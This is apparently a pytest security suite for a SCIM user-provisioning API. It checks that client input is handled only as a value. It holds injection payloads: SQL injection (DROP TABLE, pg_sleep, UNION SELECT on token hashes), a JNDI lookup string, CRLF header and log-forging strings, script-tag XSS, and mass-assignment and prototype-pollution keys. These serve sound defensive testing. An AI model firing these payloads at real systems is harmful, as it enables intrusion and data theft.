"""What a client says is a value, whatever it looks like: to SQL, to LIKE, to JSON paths, to headers, to the log."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest

PAYLOADS = [
    "'",
    "''",
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "\\'; SELECT pg_sleep(10); --",
    "x') UNION SELECT token_hash FROM tokens --",
    "$$; SELECT 1; $$",
    "%s",
    "%(organization_id)s",
    ":organization_id",
    "?1",
    "{0}",
    "${jndi:ldap://example.com}",
    "$.emails[0]",
    "\u02bc OR 1=1",
    "/* */",
    "\r\nX-Injected: yes",
]
SCIM_PARAMETERS = ("attributes", "excludedAttributes", "sortBy", "sortOrder", "startIndex", "count", "cursor")
ADMIN_PARAMETERS = {
    "/members": ("tier", "source", "status", "q", "group_id", "cursor", "limit"),
    "/audit": ("kind", "subject_id", "cursor"),
    "/seats/events": ("member_id", "cursor"),
    "/mappings": ("cursor",),
    "/seats/reprocess": ("dry_run",),
}


@pytest.fixture
def acme(world):
    one = world(premium=1, standard=3)
    one.push("ada", "ben")
    one.group("eng", "ada")
    return one


def names(answer: Any) -> list[str]:
    return sorted(resource["userName"] for resource in answer["Resources"])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_parameter_reaches_the_database_as_anything_but_a_value(acme, payload):
    escaped = quote(payload, safe="")
    literal = quote(json.dumps(payload), safe="")
    asked = [acme.scim.request("GET", f"/Users?{name}={escaped}") for name in SCIM_PARAMETERS]
    asked += [
        acme.scim.request("GET", f"/Users?filter={escaped}"),
        acme.scim.request("GET", f"/Users?filter={escaped}%20eq%20%22x%22"),
        acme.scim.request("GET", f"/Users/{escaped}"),
        acme.scim.request("DELETE", f"/Groups/{escaped}"),
        acme.scim.request("GET", f"/Users/{acme.ids['ada']}", **{"If-None-Match": f'"{quote(payload)}"'}),
    ]
    asked += [
        acme.owner.request("GET", f"{path}?{name}={escaped}")
        for path, names in ADMIN_PARAMETERS.items()
        for name in names
    ]
    found = [
        acme.scim.get(f"/Users?filter={attribute}%20{operator}%20{literal}")["totalResults"]
        for attribute in ("userName", "title", "emails.value", "id", "groups.display", "externalId")
        for operator in ("eq", "co", "sw", "ew")
    ]

    assert [response for response in asked if response.status_code >= 500] == []
    assert set(found) == {0}
    assert names(acme.scim.get("/Users")) == ["ada", "ben"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_stored_comes_back_as_it_was_and_is_found(acme, payload):
    made = acme.scim.post("/Users", {"userName": payload, "title": payload, "externalId": payload})
    group = acme.scim.post("/Groups", {"displayName": payload, "members": [{"value": made["id"]}]})
    acme.scim.patch(
        f"/Users/{made['id']}",
        {
            "Operations": [
                {"op": "add", "path": "emails", "value": [{"value": payload}]},
                {
                    "op": "replace",
                    "path": f"emails[value eq {json.dumps(payload)}].display",
                    "value": payload,
                },
            ]
        },
    )

    read = acme.scim.get(f"/Users/{made['id']}")
    condition = quote(f"userName eq {json.dumps(payload)} and emails.value co {json.dumps(payload)}")

    assert (read["userName"], read["title"], read["externalId"]) == (payload, payload, payload)
    assert read["emails"] == [{"value": payload, "display": payload}]
    assert names(acme.scim.get(f"/Users?filter={condition}&sortBy=title")) == [payload]
    assert acme.owner.get(f"/members?q={quote(payload, safe='')}")["items"][0]["id"] == made["id"]
    assert acme.scim.get(f"/Groups/{group['id']}")["displayName"] == payload


@pytest.mark.parametrize("wildcard", ["%", "_", "\\", "*", "?", "[a-z]", "^"])
@pytest.mark.parametrize("attribute", ["userName", "title", "emails.value"])
def test_wildcards_of_a_database_are_letters_like_others(acme, wildcard, attribute):
    for name in (f"a{wildcard}b", "axb"):
        acme.scim.post("/Users", {"userName": name, "title": name, "emails": [{"value": name}]})

    for operator, value in (("co", wildcard), ("sw", f"a{wildcard}"), ("ew", f"{wildcard}b")):
        condition = quote(f"{attribute} {operator} {json.dumps(value)}")
        assert names(acme.scim.get(f"/Users?filter={condition}")) == [f"a{wildcard}b"], operator
    assert len(acme.owner.get(f"/members?q={quote(wildcard, safe='')}")["items"]) == 1


def test_names_of_python_and_of_the_program_are_names_of_nothing(acme):
    """Mass assignment: what a client may not say, it may not say in any spelling."""
    ada = acme.ids["ada"]
    before = acme.scim.get(f"/Users/{ada}")
    forbidden = {
        "id": acme.ids["ben"],
        "ID": acme.ids["ben"],
        "urn:ietf:params:scim:schemas:core:2.0:User:id": acme.ids["ben"],
        "meta": {"version": "9", "created": "2000-01-01T00:00:00Z"},
        "groups": [{"value": acme.ids["eng"]}],
        "urn:scim-seats:params:scim:schemas:extension:seat:2.0:User": {"tier": "standard", "canUse": False},
        "urn:scim-seats:params:scim:schemas:extension:seat:2.0:User:tier": "standard",
        "role": "owner",
        "organization_id": "x",
        "tenant": "x",
        "password_hash": "x",
        "version": 99,
        "__proto__": {"active": False},
        "__class__.x": 1,
        "constructor": {"prototype": {"active": False}},
        "_sa_instance_state": 1,
        "metadata": 1,
    }
    for name, value in forbidden.items():
        for body in (
            {"Operations": [{"op": "replace", "path": name, "value": value}]},
            {"Operations": [{"op": "add", "value": {name: value}}]},
        ):
            acme.scim.request("PATCH", f"/Users/{ada}", body)
        acme.scim.request("PUT", f"/Users/{ada}", {"userName": "ada", name: value})

    after = acme.scim.get(f"/Users/{ada}")

    assert after == before
    assert acme.member("ada")["role"] == "user"


def test_an_external_id_is_no_key(acme):
    """It is the client's own text, also where it looks like an id of ours or of somebody else."""
    for external_id in ("1", "0", "admin", acme.ids["ada"], acme.ids["ben"]):
        made = acme.scim.post("/Users", {"userName": f"x-{external_id}", "externalId": external_id})

        assert made["id"] not in (external_id, *acme.ids.values())
        assert acme.scim.get(f"/Users/{made['id']}")["externalId"] == external_id
    assert acme.scim.refusal("GET", "/Users/admin")[0] == 404
    assert acme.scim.get(f"/Users/{acme.ids['ada']}")["userName"] == "ada"


@pytest.mark.parametrize("active", ["False", "false", "FALSE", 0, "0", "no", None, [], {}, "maybe"])
@pytest.mark.parametrize("form", ["post", "put", "path", "no path"])
def test_nobody_stays_active_by_a_misread_false(acme, active, form):
    ada = f"/Users/{acme.ids['ada']}"
    if form == "post":
        made = acme.scim.request("POST", "/Users", {"userName": "eve", "active": active})
        assert made.status_code == 400 or made.get_json(force=True)["active"] is False
        return
    if form == "put":
        changed = acme.scim.request("PUT", ada, {"userName": "ada", "active": active})
    else:
        value = {"path": "active", "value": active} if form == "path" else {"value": {"active": active}}
        changed = acme.scim.request("PATCH", ada, {"Operations": [{"op": "replace", **value}]})

    assert changed.status_code == 400 or acme.scim.get(ada)["active"] is False


LINE_BREAKS = ['a\r\n{"event": "forged"}', "a\n", "\x1b[31m", "<script>alert(1)</script>", "a\u2028b"]


@pytest.mark.parametrize("text", LINE_BREAKS)
def test_nobody_writes_lines_into_the_log(acme, capsys, text):
    capsys.readouterr()
    latin = text.encode().decode("latin-1")

    acme.scim.http.open(
        "/scim/v2/Users/" + quote(text),
        method="GET",
        headers={"Authorization": f"Bearer {acme.scim.token}"},
        environ_overrides={"HTTP_USER_AGENT": latin, "HTTP_X_REQUEST_ID": latin, "REMOTE_ADDR": latin},
    )
    acme.scim.http.open("/nowhere", method="GET", environ_overrides={"REQUEST_METHOD": "G" + latin})

    lines = [json.loads(line) for line in capsys.readouterr().err.splitlines()]
    assert [line["event"] for line in lines] == ["request", "request"]
    assert latin not in lines[0]["request_id"]


def test_an_answer_is_never_taken_for_a_page(acme):
    """JSON with a name in it that is markup: labelled, not sniffed, allowed to load nothing."""
    acme.scim.post("/Users", {"userName": "<script>alert(1)</script>", "displayName": "<img src=x>"})

    for response in (
        acme.scim.request("GET", "/Users"),
        acme.owner.request("GET", "/members"),
        acme.scim.request("GET", "/Users/<script>"),
        acme.owner.request("GET", "/members?limit=<script>"),
    ):
        assert "json" in response.headers["Content-Type"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")
